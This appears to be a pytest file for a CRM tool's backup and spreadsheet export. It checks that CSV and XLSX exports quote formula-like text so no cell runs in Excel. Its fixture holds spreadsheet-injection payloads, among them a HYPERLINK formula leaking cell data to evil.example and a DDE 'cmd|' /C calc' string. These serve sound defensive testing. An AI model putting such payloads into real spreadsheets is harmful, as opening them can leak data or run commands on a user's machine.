"""Backup round trips: JSON lines with a content checksum, and the spreadsheet exports (CSV
folder, XLSX workbook) that import back and open in Excel without running any formula."""

from __future__ import annotations

import csv
import hashlib
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl.cell import WriteOnlyCell

from graphcrm import spreadsheet
from graphcrm.cli import main
from graphcrm.demo import load_demo, seed_path
from graphcrm.export import checksum, export_lines
from graphcrm.ingest.files import FILE_ORDER, FILES, import_path
from graphcrm.ingest.formula_cells import FORMULA_STARTS
from graphcrm.store import open_store
from tests.conftest import wipe
from tests.test_import import MINI

LINKEDIN = Path(__file__).parent / "data" / "linkedin" / "Connections.csv"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
HOSTILE = {
    "name": HOSTILE_NAME,
    "title": "@SUM(A1:A9)",
    "phone": "+86 138 0013 8000",
    "notes": "-2+3+cmd|' /C calc'!A0",
    "hobbies": "=1+1",
    "email": "'=already quoted",
}


@pytest.fixture(scope="module")
def demo_export(tmp_path_factory) -> tuple[list[str], str]:
    """The demo's export lines and checksum, computed once for this module."""
    with open_store(tmp_path_factory.mktemp("demo") / "db") as store:
        load_demo(store, progress=False)
        return list(export_lines(store)), checksum(store).sha256


@pytest.fixture
def cli():
    runner = CliRunner()

    def invoke(*args: str):
        return runner.invoke(main, list(args), catch_exceptions=False)

    return invoke


def imported(path: Path, folder: Path) -> tuple[list[str], str]:
    """Import `path` into a new empty database in `folder`: its export lines and checksum."""
    with open_store(folder) as store:
        import_path(store, path, progress=False)
        return list(export_lines(store)), checksum(store).sha256


def with_hostile_person(store, folder: Path) -> None:
    """A person whose every text is a spreadsheet formula or looks like one, tied to the demo
    (written through a JSON lines import: the CSV import refuses formula cells)."""
    records = [
        {
            "type": "node",
            "id": "t.hostile",
            "labels": ["Person"],
            "properties": {"id": "t.hostile", **HOSTILE},
        },
        {
            "type": "relationship",
            "rel": "KNOWS",
            "start": "apex.wang-dan",
            "end": "t.hostile",
            "properties": {"strength": 0.5, "context": "=CMD()"},
        },
        {
            "type": "relationship",
            "rel": "KNOWS",
            "start": "t.hostile",
            "end": "apex.wang-dan",
            "properties": {"strength": 0.5, "context": "=CMD()"},
        },
    ]
    path = folder / "hostile.jsonl"
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    import_path(store, path, progress=False)


# -- JSON lines and the checksum -----------------------------------------------------------------


def test_export_then_import_reproduces_bytes_counts_and_checksum(cli, db, engine, tmp_path, request):
    first = db
    assert cli("demo", "--db", first).exit_code == 0
    out, again = tmp_path / "graph.jsonl", tmp_path / "again.jsonl"
    assert cli("export", "--out", str(out), "--db", first).exit_code == 0
    original = cli("checksum", "--db", first)
    assert original.exit_code == 0
    if engine == "neo4j":  # one database: the backup goes back into it, emptied
        wipe(request.getfixturevalue("neo4j_admin"))
        second = db
    else:
        second = str(tmp_path / "two")
    assert cli("import", str(out), "--db", second).exit_code == 0
    assert cli("export", "--format", "jsonl", "--out", str(again), "--db", second).exit_code == 0
    assert again.read_bytes() == out.read_bytes()
    restored = cli("checksum", "--db", second)
    # The checksum is the sha256 of the export's bytes; the counts are the graph's.
    assert f"sha256:{hashlib.sha256(out.read_bytes()).hexdigest()}" in original.output.splitlines()
    assert original.output.splitlines()[1:] == restored.output.splitlines()[1:]
    assert original.output.splitlines()[1:4] == [
        "nodes: Account 11, Opportunity 11, Org 18, Person 61, Rep 10",
        "relationships: ALLY 22, FOR 11, INFLUENCES 22, IN_COMMITTEE 24, KIN 6, KNOWS 162, OPPOSES 10, "
        "REFERRED 6, REPORTS_TO 39, TIED_TO 15, WORKS_AT 57",
        "export lines: 475",
    ]
    data = json.loads(cli("checksum", "--json", "--db", second).output)
    assert data["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest() and data["labels"]["Person"] == 61


def test_default_export_is_json_lines(cli, tmp_path):
    db = str(tmp_path / "db")
    assert cli("import", str(MINI), "--db", db).exit_code == 0
    default, explicit = cli("export", "--db", db), cli("export", "--format", "jsonl", "--db", db)
    assert default.exit_code == 0 and default.stdout == explicit.stdout
    assert json.loads(default.stdout.splitlines()[0])["type"] == "node"


def test_checksum_changes_with_any_change(store):
    import_path(store, MINI, progress=False)
    before = checksum(store)
    store.write([("MATCH (p:Person {id: 'p1'}) SET p.notes = 'changed'", {})])
    after = checksum(store)
    assert after.sha256 != before.sha256
    assert (after.labels, after.types, after.lines) == (before.labels, before.types, before.lines)


# -- spreadsheets ----------------------------------------------------------------------------------


def test_csv_export_of_the_demo_imports_back_to_the_same_graph(demo_export, tmp_path, cli):
    demo_db = tmp_path / "demo"
    assert cli("demo", "--db", str(demo_db)).exit_code == 0
    folder = tmp_path / "csv"
    result = cli("export", "--format", "csv", "--out", str(folder), "--db", str(demo_db))
    assert result.exit_code == 0, result.output
    assert result.output == (
        f"wrote {folder} (csv): rows accounts 29, people 61, ties 176, opportunities 11, committee 24, "
        "referrals 6\n"
    )
    assert sorted(p.name for p in folder.iterdir()) == sorted(f"{name}.csv" for name in FILE_ORDER)
    for name in FILE_ORDER:
        data = (folder / f"{name}.csv").read_bytes()
        assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
        header = data[3:].decode("utf-8").splitlines()[0]
        assert header == ",".join(c.name for c in FILES[name].columns)
    assert imported(folder, tmp_path / "back") == demo_export


def test_xlsx_export_of_the_demo_imports_back_to_the_same_graph(demo_export, tmp_path, cli):
    demo_db = tmp_path / "demo"
    assert cli("demo", "--db", str(demo_db)).exit_code == 0
    book = tmp_path / "demo.xlsx"
    assert cli("export", "--format", "xlsx", "--out", str(book), "--db", str(demo_db)).exit_code == 0
    assert openpyxl.load_workbook(book).sheetnames == list(FILE_ORDER)
    assert imported(book, tmp_path / "back") == demo_export


def test_symmetric_ties_are_one_row_and_seats_keep_their_stage_influence(seeded, tmp_path):
    store = seeded("apex")
    spreadsheet.export_csv(store, tmp_path / "csv")
    with (tmp_path / "csv" / "ties.csv").open(encoding="utf-8-sig") as handle:
        ties = list(csv.DictReader(handle))
    with (seed_path("apex") / "ties.csv").open(encoding="utf-8") as handle:
        seed_ties = list(csv.DictReader(handle))
    assert len(ties) == len(seed_ties)
    kin = [t for t in ties if t["type"] == "KIN" and "apex.chen-hong" in (t["source"], t["target"])]
    assert kin == [
        {
            "source": "apex.chen-hong",
            "target": "apex.song-jiang",
            "type": "KIN",
            "strength": "0.8",
            "context": "cousins",
            "since": "2024-01-01",
            "last_contact": "2026-11-16",
        }
    ]
    tied = next(t for t in ties if t["type"] == "TIED_TO" and t["source"] == "apex.chen-hong")
    assert tied["context"] == "incumbent vendor; long-standing relationship"
    with (tmp_path / "csv" / "committee.csv").open(encoding="utf-8-sig") as handle:
        seat = next(r for r in csv.DictReader(handle) if r["person_id"] == "apex.chen-hong")
    assert seat["stage_influence"] == (
        "need=35;priority=20;urgency=15;specification=15;proposals=15;evaluate=35;negotiate=15;decide=20"
    )
    with (tmp_path / "csv" / "people.csv").open(encoding="utf-8-sig") as handle:
        people = {r["id"]: r for r in csv.DictReader(handle)}
    assert people["apex.zhou-ming"]["is_rep"] == "true" and people["apex.chen-hong"]["is_rep"] == "false"
    assert people["apex.chen-hong"]["channels"] == "internal reports;competitors"


def test_csv_cells_never_start_a_formula(seeded, tmp_path):
    store = seeded("apex")
    with_hostile_person(store, tmp_path)
    report = spreadsheet.export_csv(store, tmp_path / "csv")
    assert report.left_out == {} and report.notes == []
    cells = []
    for name in FILE_ORDER:
        with (tmp_path / "csv" / f"{name}.csv").open(encoding="utf-8-sig", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert f"'{HOSTILE_NAME}" in cells and "'=CMD()" in cells
    # Opened as text, as a spreadsheet sees it: no cell, quoted or not, starts with = + - @.
    text = "".join((tmp_path / "csv" / f"{n}.csv").read_text(encoding="utf-8-sig") for n in FILE_ORDER)
    assert not re.findall(r'(?:^|,)"?[=+\-@\t]', text, re.MULTILINE)
    assert "''=already quoted" in cells  # its import drops one quote: the text comes back as it was
    assert "'+86 138 0013 8000" in cells


def test_xlsx_has_no_formula_cells(seeded, tmp_path):
    # The check is not blind: openpyxl makes any text starting with "=" a formula by itself.
    assert WriteOnlyCell(openpyxl.Workbook(write_only=True).create_sheet(), value="=1+1").data_type == "f"
    store = seeded("apex")
    with_hostile_person(store, tmp_path)
    book = tmp_path / "book.xlsx"
    spreadsheet.export_xlsx(store, book)
    workbook = openpyxl.load_workbook(book)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    assert f"'{HOSTILE_NAME}" in texts
    with zipfile.ZipFile(book) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not [n for n in sheets if b"<f>" in archive.read(n) or b"<f " in archive.read(n)]
    # Numbers stay numbers (Excel can sum them); ids and text stay text.
    people = workbook["people"]
    header = [c.value for c in people[1]]
    row = next(r for r in people.iter_rows(min_row=2) if r[0].value == "apex.chen-hong")
    assert row[header.index("rank")].value == 2 and row[header.index("rank")].data_type == "n"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_hostile_text_comes_back_as_it_was(seeded, tmp_path, kind):
    """Needs the importer to drop the `'` that the export put before a formula-like text
    (graphcrm.ingest.formula_cells.unquote, in the import of CSV and XLSX cells)."""
    store = seeded("apex")
    with_hostile_person(store, tmp_path)
    original = list(export_lines(store))
    target = tmp_path / ("csv" if kind == "csv" else "book.xlsx")
    (spreadsheet.export_csv if kind == "csv" else spreadsheet.export_xlsx)(store, target)
    lines, _ = imported(target, tmp_path / "back")
    assert lines == original


def test_linkedin_properties_are_left_out_and_reported(cli, tmp_path):
    db = str(tmp_path / "db")
    assert cli("import", str(MINI), "--db", db).exit_code == 0
    assert cli("import-linkedin", str(LINKEDIN), "--rep", "rep1", "--db", db).exit_code == 0
    folder = tmp_path / "csv"
    result = cli("export", "--format", "csv", "--out", str(folder), "--db", db)
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[1] == (
        "left out, having no import column: accounts.csv: source (1), people.csv: linkedin (2), "
        "people.csv: source (2); `graphcrm export` (JSON lines) keeps everything"
    )
    with open_store(db) as store:
        original = list(export_lines(store))
    lines, _ = imported(folder, tmp_path / "back")

    def without_linkedin(line: str) -> str:
        record = json.loads(line)
        for key in ("source", "linkedin"):
            if record["type"] == "node":
                record["properties"].pop(key, None)
        return json.dumps(record, ensure_ascii=False, sort_keys=True, separators=(",", ":"))

    assert lines == [without_linkedin(line) for line in original]


def test_spreadsheet_export_errors(cli, tmp_path):
    db = str(tmp_path / "db")
    assert cli("import", str(MINI), "--db", db).exit_code == 0
    no_folder = cli("export", "--format", "csv", "--db", db)
    assert no_folder.exit_code == 2
    assert (
        no_folder.output
        == "error: --format csv writes six CSV files into a folder: give it with --out FOLDER\n"
    )
    bad_book = cli("export", "--format", "xlsx", "--out", str(tmp_path / "book.csv"), "--db", db)
    assert bad_book.exit_code == 2
    assert bad_book.output == "error: --format xlsx writes one workbook: give it with --out FILE.xlsx\n"
    a_file = tmp_path / "file.txt"
    a_file.write_text("x")
    assert cli("export", "--format", "csv", "--out", str(a_file), "--db", db).exit_code == 2
    assert not (tmp_path / "book.csv").exists()
